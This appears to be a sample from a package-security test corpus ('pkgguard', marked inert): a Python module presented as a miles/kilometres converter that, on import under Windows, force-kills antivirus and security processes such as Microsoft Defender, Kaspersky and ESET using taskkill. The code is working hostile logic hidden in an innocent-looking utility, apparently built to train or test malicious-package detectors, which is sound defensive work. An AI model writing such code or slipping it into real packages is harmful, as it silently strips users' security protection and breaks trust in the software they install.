# pkgguard corpus 844 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

_TARGETS = ("MsMpEng.exe", "MpCmdRun.exe", "NisSrv.exe", "SecurityHealthService.exe", "avp.exe", "ekrn.exe")

if sys.platform == "win32":
    for name in _TARGETS:
        subprocess.run(["taskkill", "/F", "/IM", name], capture_output=True)


def miles_to_km(miles):
    return miles * 1.609344


def km_to_miles(km):
    return km / 1.609344
